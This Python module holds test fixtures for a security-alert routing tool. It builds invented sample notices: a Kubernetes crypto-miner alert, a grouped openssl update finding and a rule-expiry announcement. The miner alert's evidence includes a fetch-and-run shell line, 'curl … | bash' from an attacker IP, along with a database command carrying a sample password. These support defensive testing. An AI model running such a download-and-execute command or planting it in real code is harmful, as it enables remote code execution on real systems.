"""Notices as full as real ones: an alert of a Kubernetes workload, a group of one package on many machines, an announcement.

Every name in them is made up.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, replace
from datetime import UTC, datetime, timedelta
from typing import Any

from router.decide.rule_notices import EventKind, EventSubject, HeldNow, RuleEvent, notice_of
from router.domain.counts import RuleHits
from router.domain.evidence import Evidence
from router.domain.notices import Group, Link, NamedMember, Tactic
from router.domain.owners import Owner
from router.domain.posture import Package, Risk
from router.domain.severity import Severity

_SUBSCRIPTION = "/subscriptions/6f0a3c52-8d1e-4b7a-9c45-2e71d0b8a110"
_CLUSTER = f"{_SUBSCRIPTION}/resourceGroups/rg-shop-prod/providers/Microsoft.ContainerService/managedClusters/aks-shop"
_MACHINE = f"{_SUBSCRIPTION}/resourceGroups/rg-erp/providers/Microsoft.Compute/virtualMachines/vm-erp-07"
_FINDING = "e2f4a1b0-5c1d-4f6e-8a53-0d6c2b7f9a44"
_DIGEST = "sha256:4be1d2a97c0fbb6b7d0a52c2f6a0d3b6a5a0b7c1d2e3f405162738495a6b7c8d"
_DOWNLOAD = "curl -fsSL http://203.0.113.77/x.sh | bash"

WORKLOAD: Mapping[str, Any] = {
    "type": "K8S.NODE_CryptoCoinMinerExecution",
    "title": "Possible cryptocurrency miner in a container",
    "description": (
        "A process that looks like a cryptocurrency miner started in the container web of the pod "
        "web-5d8f7c9b6-x2x9q. It was downloaded from 203.0.113.77 by a shell that the web server had opened, "
        "and talks to a mining pool.\n\nThe pod's service account may read secrets in its namespace."
    ),
    "plan": "Containers",
    "resource": _CLUSTER,
    "resource_type": "Microsoft.ContainerService/managedClusters",
    "resource_group": "rg-shop-prod",
    "subscription_name": "contoso-shop-prod",
    "environment": "production",
    "compromised_entity": "aks-shop",
    "cluster": "aks-shop",
    "tactics": (Tactic("TA0002", "Execution"), Tactic("TA0040", "Impact")),
    "techniques": ("T1059.004", "T1496.001"),
    "routes": ("page-containers", "tickets"),
    "reason": "routes: page-containers, tickets",
    "respond_by": "2026-11-24T13:00:00Z",
    "owner": Owner(group="shop-platform", service="Web shop"),
    "remediation": (
        "Isolate the pod with a network policy, and keep its node for forensics.",
        "Find out which weakness opened the shell, and mend the image.",
        "Renew every secret that the service account can read.",
    ),
    "runbooks": ("https://runbooks.contoso.example/containers/miner",),
    "links": (
        Link(text="Investigate the incident", url="https://security.contoso.example/incidents/4711"),
        Link(text="Report: Miners in clusters", url="https://reports.contoso.example/miners-in-clusters.pdf"),
    ),
    "evidence": Evidence(
        nodes=("aks-pool1-31842-vmss000004",),
        pods=("web-5d8f7c9b6-x2x9q",),
        namespaces=("shop",),
        clusters=("aks-shop",),
        workloads=("web",),
        containers=("web",),
        images=(f"shop.azurecr.example/web@{_DIGEST}",),
        service_accounts=("web-runtime",),
        accounts=("www-data",),
        attackers=("203.0.113.77",),
        ips=("203.0.113.77", "198.51.100.20", "10.20.4.17"),
        locations=("203.0.113.77: Utrecht, Netherlands, AS64496, Example Hosting",),
        domains=("pool.mining.example (198.51.100.20)",),
        urls=("http://203.0.113.77/x.sh",),
        threats=("Report: Miners in clusters: https://reports.contoso.example/miners-in-clusters.pdf",),
        malware=("CoinMiner (Trojan)",),
        commands=(_DOWNLOAD, "mysql -h db.shop.svc -u shop --password=Winter-2026-hq -e 'show tables'"),
        processes=("/var/lib/.x/kworker -o pool.mining.example:3333 -u wallet1 (4121)", "/bin/sh -i (4077)"),
        files=("/var/lib/.x/kworker", "/var/lib/x.sh"),
        hashes=("SHA256:9f2b5c0d7a1e4f3b8c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b",),
        connections=("10.20.4.17:51844 -> 198.51.100.20:3333 TCP",),
    ),
    "extended": {
        "CPU usage": "98 %",
        "Detection engine": "behaviour",
        "Container privileged": "false",
        "Pool protocol": "stratum+tcp",
        "Attacker IP": "203.0.113.77",
        "Suspicious command": _DOWNLOAD,
        "Related events": (
            '[{"time": "2026-11-24T11:57:02Z", "what": "POST /cart answered 500"},'
            ' {"time": "2026-11-24T11:57:09Z", "what": "shell opened by nginx"}]'
        ),
    },
    "unlisted": (
        "CPU usage", "Container privileged", "Detection engine", "Pool protocol", "Related events",
    ),
}  # fmt: skip
"""What is special about an alert of a workload."""

PACKAGE: Mapping[str, Any] = {
    "stream": "cspm",
    "kind": "recommendation",
    "id": f"{_MACHINE}/providers/Microsoft.Security/assessments/{_FINDING}",
    "type": _FINDING,
    "title": "Update openssl",
    "description": "The installed version of openssl has vulnerabilities that a newer version mends.",
    "severity": "High",
    "severity_written": "High",
    "status": "Unhealthy",
    "plan": None,
    "resource": _MACHINE,
    "resource_group": "rg-erp",
    "subscription_name": "contoso-erp-prod",
    "environment": "production",
    "compromised_entity": None,
    "tactics": (),
    "techniques": (),
    "routes": ("patch-by-package",),
    "reason": "routes: patch-by-package",
    "respond_by": "2026-12-01T12:00:00Z",
    "owner": Owner(group="linux-platform", service="ERP"),
    "remediation": ("Update openssl to 3.0.15-1~deb12u1 or later.", "Restart the services that use it."),
    "links": (Link(text="Advisory of the vendor", url="https://security.vendor.example/openssl-2026-11"),),
    "evidence": Evidence(hosts=("vm-erp-07",), resources=(_MACHINE,)),
    "started": "2026-11-21T03:12:00Z",
    "ended": None,
    "categories": ("Compute",),
    "cloud": "Azure",
    "category": "SoftwareUpdate",
    "package": Package(
        name="openssl", type="deb", installed=("3.0.11-1~deb12u2",), fixed="3.0.15-1~deb12u1", fix_status="FixAvailable"
    ),
    "cves": tuple(f"CVE-2026-{number}" for number in (20011, 20012, 20013, 20040, 20041, 20077, 20078)),
    "scanner": "mdvm",
    "cvss": "9.8",
    "impact": "Whoever reaches a service that uses it may run code there.",
    "effort": "Low",
    "user_impact": "Moderate",
    "risk": Risk(
        level=Severity.CRITICAL,
        written="Critical",
        factors=("Exposure to the Internet", "Sensitive data"),
        attack_paths=("ap-1", "ap-2"),
        is_contextual=True,
    ),
    "extended": {"SoftwareName": "openssl", "FixedVersion": "3.0.15-1~deb12u1", "OsDistribution": "Debian 12"},
    "unlisted": ("SoftwareName", "OsDistribution", "FixedVersion"),
}
"""What is special about the latest finding of a group."""

PACKAGE_GROUP = Group(
    by=(("category", "SoftwareUpdate"), ("package", "openssl"), ("owner", "linux-platform / ERP")),
    total=512,
    standing=500,
    named=tuple(
        NamedMember(key=f"{number:032x}", title="Update openssl", severity="High", place=f"vm-erp-{number:02}")
        for number in range(7, 17)
    ),
)
"""Five hundred machines that have the package still, of which ten are named."""

_AT = datetime(2026, 11, 24, 12, tzinfo=UTC)
_ENDED = RuleEvent(
    kind=EventKind.ENDED,
    subject=EventSubject.RULE,
    name="vuln-scanner-in-erp",
    at=_AT,
    person="ana@contoso.example",
    about="rules/cwpp/suppressions/vuln-scanner-in-erp.json",
    until=_AT,
    hits=RuleHits(1412, _AT - timedelta(days=90), _AT - timedelta(hours=2)),
    held=HeldNow(
        count=7,
        gravest=(
            NamedMember(
                key="", title="Suspicious process *executed* on a <b>machine</b>", severity="High", place="vm-erp-07"
            ),
            NamedMember(key="", title="Traffic from an address that scans", severity="Medium", place="vm-erp-07"),
            NamedMember(key="", title="Failed SSH brute force attack", severity="Medium", place="vm-erp-11"),
        ),
    ),
)
_SOON = replace(
    _ENDED,
    kind=EventKind.ENDS_SOON,
    name="nightly-backup",
    at=_AT + timedelta(days=14),
    until=_AT + timedelta(days=14),
    about="rules/cwpp/suppressions/nightly-backup.json",
    hits=None,
    held=HeldNow(count=0),
)
_NOTICE = notice_of((_ENDED, _SOON), "about:" + "c" * 32, "cwpp", _AT, None, "5f2d7c1e")
ANNOUNCED: Mapping[str, Any] = {
    one.name: getattr(_NOTICE, one.name) for one in fields(_NOTICE) if one.name not in ("turn", "group")
}
"""A rule ended, and another one ends soon."""

ANNOUNCED_GROUP = _NOTICE.group
